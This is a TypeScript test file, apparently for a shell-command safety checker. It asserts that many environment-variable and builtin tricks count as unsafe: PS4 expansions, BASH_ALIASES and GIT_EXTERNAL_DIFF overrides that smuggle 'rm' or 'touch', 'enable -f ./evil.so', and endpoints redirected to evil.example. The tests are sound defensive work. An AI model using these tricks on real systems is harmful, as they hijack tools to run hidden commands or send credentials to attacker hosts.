import { spawnSync } from 'node:child_process';
import { describe, expect, test } from 'vitest';
import { findProgramSpec } from './find-program.js';
import { judged } from './programs/expect.test-helper.js';

const knowledge = (text: string) => judged(text).knowledge;

describe('variables before a command that only reads', () => {
  test.each([
    'LANG=C ls',
    'LC_ALL=en_US.UTF-8 sort a',
    'TZ=Europe/Berlin date',
    'NO_COLOR=1 FORCE_COLOR=0 CI=true ls',
    'NODE_ENV=test ls',
    'DEBUG=app:* ls',
    'RUST_LOG=debug,hyper=info ls',
    'GIT_AUTHOR_NAME="A B" git log',
    'GIT_PAGER=cat git log',
    'LESS=-FRX git log',
    'LESS=FRX git log',
    'LESS="-R --mouse -x4" git log',
    "PS1='\\u@\\h:\\w\\$ '; ls",
    'IFS=: read -r a b',
    'FOO=bar; echo "$FOO"',
    'for FILE in a b; do echo "$FILE"; done',
  ])('are passed over where they are tame: %s', (text) => {
    expect(knowledge(text)).not.toBe('unknown');
  });

  test.each([
    "DBUS_SESSION_BUS_ADDRESS='unixexec:path=/bin/sh' busctl --user list",
    'TAPE=x tar c y',
    'VALGRIND_OPTS=--log-file=x valgrind ls',
    'TF_LOG=TRACE TF_LOG_PATH=x terraform version',
    'RESTIC_PASSWORD_COMMAND=x restic snapshots',
    'BORG_PASSCOMMAND=x borg list',
    'KUBECTL_EXTERNAL_DIFF=x kubectl diff',
    'PSQLRC=x psql -l',
    'LIBMYSQL_PLUGINS=x mysql -e "show tables"',
    'EXIFTOOL_HOME=x exiftool a.jpg',
    'MAGICK_CONFIGURE_PATH=x identify a.png',
    'AWS_SHARED_CREDENTIALS_FILE=x aws s3 ls',
    'AZURE_EXTENSION_DIR=x az account show',
    'PARALLEL_SHELL=x ls',
    'NIX_CONFIG=x nix search a',
    'LESS=-kevil less README',
    'LESS="--lesskey-src x" less README',
    'LESS="--lesskey-src=x" less README',
    'LESS=-Rolog less README',
    "PS4='\\044(touch x)'; set -x; ls",
    "PS4='\\140touch x\\140'; set -x; ls",
    "PS4='\\D{$}(touch x)'; set -x; ls",
    "x='a[$(touch y)]'; PS4='$[x]'; set -x; ls",
    "PS4='$a[x]'; set -x; ls",
    'export GIT_ICASE_PATHSPECS=1',
    // Exported before the text begins.
    'SHELL=$PWD/evil; script -qc ls /dev/null',
    'DBUS_SESSION_BUS_ADDRESS=unixexec:path=/w/evil; busctl --user list',
    'TMPDIR=/w/x; ls',
    'RUSTUP_HOME=/w/x; cargo -V',
    'RUSTUP_DIST_SERVER=https://evil.example; cargo -V',
    'MISE_CONFIG_FILE=x; ls',
    'NODENV_VERSION=../x; node -v',
    'MAVEN_HOME=/w/x; mvn -v',
    'HOMEBREW_PREFIX=/w/x; ls',
    'GH_HOST=evil.example; gh api user',
    'PGHOST=evil.example; ls',
    'AWS_ENDPOINT_URL=http://evil.example; aws s3 ls',
    'JAVA_HOME=/usr/../w/bin mvn --version',
    'SOMETHING_NEW=x ls',
    'env SOMETHING_NEW=x ls',
    'export SOMETHING_NEW=x',
    'SOMETHING_NEW=x; export SOMETHING_NEW; ls',
    'declare -x SOMETHING_NEW=x',
    'LANG=../../x ls',
    'LC_ALL="$x" ls',
    'TZ=:/etc/passwd date',
    'TERM=$(cat x) ls',
  ])('make it unknown where they are not: %s', (text) => {
    expect(knowledge(text)).toBe('unknown');
  });

  test.each([
    ': ${BASH_CMDS[ls]:=/bin/rm}; ls x',
    "BASH_ALIASES[ls]='rm x'; ls",
    ": ${BASH_ALIASES[ls]:='rm x'}; ls",
    "export GIT_EXTERNAL_DIFF; : ${GIT_EXTERNAL_DIFF:='rm x;'}; git diff",
    "unset PS4; : ${PS4:='$(rm x)'}; set -x; ls",
    "f() { local GIT_EXTERNAL_DIFF='rm x;'; git diff; }; f",
    "readonly PS4='$(rm x)'; set -x; ls",
    'read GIT_EXTERNAL_DIFF < f; git diff',
    'printf -v GIT_PAGER "rm x"; git diff',
    'for PAGER in "rm x"; do git log; done',
    'select PAGER in "rm x"; do git log; done',
    'mapfile GIT_PAGER < f; git log',
    'declare -n p=PAGER; p="rm x"; git log',
    'set -k; git diff GIT_EXTERNAL_DIFF=x',
    'set -a; PAGER=x; git log',
    'while read LD_PRELOAD; do ls; done < f',
    'getopts a GIT_PAGER; git log',
    '((PATH = 1)); ls',
    'export -f ls; bash -c ls',
  ])('are judged whoever sets them: %s', (text) => {
    expect(knowledge(text)).toBe('unknown');
  });
});

describe('every builtin of the shell is in the table', () => {
  const { stdout, error } = spawnSync('bash', ['-c', 'compgen -b'], { encoding: 'utf8' });
  test.skipIf(error !== undefined)('as bash itself lists them', () => {
    const builtins = stdout.split('\n').filter((name) => name !== '');
    expect(builtins.length).toBeGreaterThan(50);
    // What these run is read in their place.
    const read = ['builtin', 'command', 'exec'];
    expect(builtins.filter((name) => findProgramSpec(name) === undefined && !read.includes(name))).toEqual([]);
  });

  test.each([
    'jobs -x rm y',
    "compgen -C 'rm x' y",
    "compgen -W '$(rm x)' y",
    'compgen -W "$words" y',
    'compgen -F f y',
    'compgen -A function -C x',
    "complete -C 'rm x' ls",
    'bind -x \'"a": rm x\'',
    'bind -f inputrc',
    'enable -f ./evil.so ls',
    'enable -n test',
    'hash -p /tmp/x ls',
    'suspend -f',
    'fc -s',
    'fc -e vi',
    'history -s x',
    "mapfile -C 'rm x' -c 1 a < f",
    'shopt -s dotglob',
    'shopt -s lastpipe',
    'set -o posix',
    'set -x',
    'enable -a',
    'fc -l',
  ])('and is not harmless where it runs or redefines something: %s', (text) => {
    expect(knowledge(text)).toBe('unknown');
  });

  test.each([
    'jobs -l',
    'compgen -b',
    "compgen -W 'a b' -- a",
    'complete -p',
    'bind -p',
    'hash',
    'history 10',
    'set -euo pipefail',
    'shopt -s globstar',
    'shopt -u dotglob',
    'type ls',
    'ulimit -n',
  ])('and is harmless where it only tells: %s', (text) => {
    expect(knowledge(text)).not.toBe('unknown');
  });
});
